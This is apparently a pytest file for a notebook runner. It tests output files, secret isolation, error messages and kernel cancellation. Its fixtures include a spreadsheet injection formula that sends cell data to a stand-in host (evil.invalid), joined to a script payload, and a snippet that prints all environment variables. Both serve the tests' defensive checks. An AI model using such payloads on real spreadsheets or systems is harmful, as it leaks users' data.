"""Runs in a real kernel: what is left, how they fail, how they are cancelled."""

import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import jsonschema
import live_nodes
import made_notebook
import made_report
import nbformat
import pytest
from made_notebook import made  # noqa: F401 - a fixture

import runbook_lib.report
from runbook_lib import runner
from runbook_lib.errors import InputError
from runbook_lib.runner import kernel, notebooks

SCHEMA = json.loads((Path(runbook_lib.report.__file__).parent / "findings.schema.json").read_text())
CANARY = "sk-" + "CANARY0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"x")<script>alert(1)</script>'
LONG = pytest.mark.long
FILES = {
    *("report.html", "report.ipynb", "findings.json", "support-pack.md"),
    *(f"{name}.csv" for name in made_report.report().exhibits),
}


@pytest.fixture(scope="module")
def ran(tmp_path_factory) -> Path:
    """One run with a hostile id, and keys in the environment."""
    folder = tmp_path_factory.mktemp("ran")
    spy = "import os\nprint(sorted(os.environ))\nprint(list(os.environ.values()))"
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(notebooks, "folder", lambda: folder)
        for name in ("TOROUTER_API_KEY", "TOROUTER_API_KEY__PROD_WEB", "OPENAI_API_KEY"):
            patched.setenv(name, CANARY)
        made_notebook.write(folder, load=spy)
        result = runner.run(["made"], {"request_id": FORMULA}, out=folder / "out")
    assert [item.error for item in result.outcomes] == [""]
    assert result.exit_code == 1
    return folder / "out"


def test_a_run_leaves_every_file(ran: Path) -> None:
    """People get a page, colleagues a notebook, programs JSON and CSV."""
    assert {path.name for path in ran.iterdir()} == FILES
    assert list(ran.parent.glob(".*")) == []


def test_findings_json_is_whole(ran: Path) -> None:
    """It says what was run, with what, and how it ended; and it fits its schema."""
    content = json.loads((ran / "findings.json").read_text())
    jsonschema.validate(content, SCHEMA)
    assert content["run"]["exit_code"] == 1
    assert set(content["run"]["files"]) == FILES
    assert content["exhibits"].keys() == made_report.report().exhibits.keys()


def test_no_key_reaches_the_kernel_or_a_file(ran: Path) -> None:
    """An offline runbook needs no key, so it gets none, and none can be written."""
    printed = (ran / "report.ipynb").read_text()
    assert "MPLBACKEND" in printed
    assert "TOROUTER_API_KEY" not in printed
    assert "OPENAI_API_KEY" not in printed
    assert [path.name for path in ran.iterdir() if "CANARY" in path.read_text()] == []


def test_nothing_of_the_data_is_live_in_the_files(ran: Path) -> None:
    """Not on the page, not in a spreadsheet."""
    assert live_nodes.live((ran / "report.html").read_text()) == []
    rows = (ran / "joined_rows.csv").read_text()
    assert re.search(r'(^|,)"?=', rows, re.MULTILINE) is None
    assert "\"'=HYPERLINK" in rows


def test_the_executed_notebook_is_valid_and_names_no_machine(ran: Path) -> None:
    """It travels: no path of this machine, and the rows are in their own files."""
    notebook = nbformat.read(ran / "report.ipynb", as_version=4)
    nbformat.validate(notebook)
    held = notebook.metadata.papermill
    assert held.input_path == "made.ipynb"
    assert held.parameters["request_id"] == FORMULA
    assert '"files"' not in (ran / "report.ipynb").read_text()


@pytest.mark.parametrize(
    ("verdict", "code", "told"),
    [
        pytest.param(
            "from runbook_lib.errors import ParameterError\n"
            "raise ParameterError('window_hours', 0, hint='more')",
            2,
            "window_hours=0 cannot be used; give more.",
            id="refused-by-the-library",
        ),
        pytest.param("1 / 0", 4, "ZeroDivisionError", id="fault", marks=LONG),
        pytest.param("import sys\nsys.exit(0)", 4, "without a report", id="exit-zero"),
        pytest.param("2", 4, "without a report", id="no-report", marks=LONG),
        pytest.param("import os\nos._exit(0)", 4, "kernel", id="kernel-dies", marks=LONG),
        pytest.param("while True: pass", 4, "took more than 2 s", id="too-slow", marks=LONG),
    ],
)
def test_a_failed_run_is_a_sentence_and_leaves_nothing(made, tmp_path, verdict, code, told) -> None:  # noqa: F811
    """No traceback, no half report, and the code says whose fault it is."""
    made_notebook.write(made, verdict=verdict)
    result = runner.run(["made"], {}, out=tmp_path / "out", timeout_s=2)
    assert result.exit_code == code
    assert told in result.outcomes[0].error
    assert "\n" not in result.outcomes[0].error
    assert not (tmp_path / "out").exists()


def test_one_of_several_that_fails_leaves_the_others(made, tmp_path: Path) -> None:  # noqa: F811
    """The index says which, and the run is partial unless there are findings."""
    made_notebook.write(made, "broken", verdict="1 / 0")
    out = tmp_path / "out"
    result = runner.run(["broken", "made"], {}, out=out, fail_on="never")
    assert [item.exit_code for item in result.outcomes] == [4, 0]
    assert result.exit_code == 3
    assert sorted(path.name for path in out.iterdir()) == ["index.html", "made"]
    index = (out / "index.html").read_text()
    assert "made/report.html" in index
    assert "ZeroDivisionError" in index


@pytest.mark.usefixtures("made")
def test_a_wrong_place_starts_no_kernel(tmp_path, monkeypatch) -> None:
    """Whoever mistypes --out should not wait for it."""
    monkeypatch.setattr(
        kernel.subprocess, "Popen", lambda *_, **__: pytest.fail("a kernel started")
    )
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(InputError):
        runner.run(["made"], {}, out=tmp_path)


CANCELLED = """
import sys
from pathlib import Path
from runbook_lib.runner import notebooks
notebooks.folder = lambda: Path({folder!r})
from runbook_lib import cli
sys.argv = ["runbook", "run", "made", "--sandbox", "--out", {out!r}]
cli.main()
"""


@pytest.mark.skipif(
    not hasattr(os, "mkfifo"), reason="the notebook says through a FIFO that it runs"
)
@pytest.mark.parametrize(
    "number", [signal.SIGTERM, pytest.param(signal.SIGINT, marks=pytest.mark.long)]
)
def test_a_cancelled_run_ends_its_kernel(made, tmp_path: Path, number: int) -> None:  # noqa: F811
    """Exit 130, nothing written, and no process left that keeps on reading."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    verdict = f"import os\nopen({str(fifo)!r}, 'w').write(str(os.getpid()))\nwhile True: pass"
    made_notebook.write(made, verdict=verdict)
    code = CANCELLED.format(folder=str(made), out=str(tmp_path / "out"))
    with subprocess.Popen(
        [sys.executable, "-c", code], stderr=subprocess.PIPE, text=True
    ) as process:
        pid = int(fifo.read_text())
        process.send_signal(number)
        _, told = process.communicate(timeout=30)
    assert process.returncode == 130
    assert told.strip() == "Cancelled; nothing more was written."
    assert not (tmp_path / "out").exists()
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)


def test_a_kernel_ends_with_its_owner_killed() -> None:
    """SIGKILL gives nobody time to clean up; the kernel must notice by itself."""
    code = (
        "import os, signal\nfrom runbook_lib.runner.kernel import Kernel\n"
        "held = Kernel()\nprint(held.process.pid, flush=True)\nos.kill(os.getpid(), signal.SIGKILL)"
    )
    ended = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False
    )
    pid = int(ended.stdout)
    _wait_for_end(pid)


def _wait_for_end(pid: int) -> None:
    """Wait until a process that is no child of this one has ended."""
    handle = os.pidfd_open(pid) if hasattr(os, "pidfd_open") and _runs(pid) else None
    if handle is None:
        assert not _runs(pid)
        return
    import select

    try:
        assert select.select([handle], [], [], 60)[0], "the kernel is still there"
    finally:
        os.close(handle)


def _runs(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True
